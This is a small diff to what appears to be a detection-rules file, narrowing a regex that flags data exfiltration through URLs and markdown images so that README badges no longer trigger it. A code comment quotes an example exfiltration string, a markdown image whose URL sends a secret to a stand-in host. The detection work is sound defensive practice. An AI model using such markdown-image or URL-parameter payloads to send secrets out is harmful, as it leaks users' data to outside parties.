@@ -285,7 +285,9 @@ INTENT_FEATURES: tuple[tuple[str, str, str], ...] = (
     (
         "exf_url_data",
         "exfil",
-        r"(?:https?://\S+[?&][a-z_]+=\{|!\[[^\]]*\]\(https?://|\?(?:data|q|secret|token|key|info|d|p)=)",
+        # a markdown image only with a placeholder in its URL: "![a](https://x.example/p?d={secret})".
+        # Until session 15 every markdown image counted, and READMEs (badges, logos) scored as exfiltration
+        r"(?:https?://\S+[?&][a-z_]+=\{|!\[[^\]]*\]\(https?://[^)\s]*(?:\{|%7b|\[|<|\$)|\?(?:data|q|secret|token|key|info|d|p)=)",
     ),
     (
         "exf_credentials",
